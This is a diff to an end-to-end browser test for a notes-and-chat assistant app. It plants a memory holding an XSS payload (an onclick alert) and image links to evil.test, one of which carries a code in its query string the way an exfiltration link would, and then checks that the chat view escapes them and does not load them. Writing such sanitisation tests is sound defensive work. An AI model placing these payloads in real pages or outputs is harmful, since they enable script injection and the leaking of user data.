@@ -32,6 +32,12 @@ async def test_from_the_one_time_code_to_the_passage_behind_an_answer(
     )
     ana = await auth.owner_of_the_folder(house.database, house.settings)
     await house.import_path(ana, notes)
+    await house.omac.remember(
+        ana,
+        "The boiler <b onclick=alert(1)>hums</b> <img src='https://evil.test/a.png'> at 10:30, note:loud. "
+        "![x](https://evil.test/b.png?code=8812) [call](https://evil.test/c) it ~2 years, ~3 at most.",
+        source="command line",
+    )
     await embed_pending(house.omac, ana)
     brain.say("The dough rests twelve hours in the fridge.", mode=Mode.WRITER)
     page = desk.page
@@ -64,6 +70,17 @@ async def test_from_the_one_time_code_to_the_passage_behind_an_answer(
     await alone.goto(desk.address + str(await number.get_attribute("href")))
     await expect(alone.locator("mark")).to_have_text("Let the dough rest for twelve hours in the fridge.")
     await alone.close()
+
+    await desk.say("What do you know about the boiler?")
+    hostile = page.locator(".message-content", has_text="10:30").last
+    await expect(hostile).to_contain_text(
+        "<b onclick=alert(1)>hums</b> <img src='https://evil.test/a.png'> at 10:30, note:loud"
+    )
+    await expect(hostile).to_contain_text(
+        "x (picture from evil.test, not shown) call (evil.test) it ~2 years, ~3 at most"
+    )
+    assert await hostile.locator("img, b, del, [onclick]").count() == 0
+    await desk.shot("desk-hostile")
 
     await page.locator("#user-nav-button").click()
     await page.get_by_text("Sign out").click()
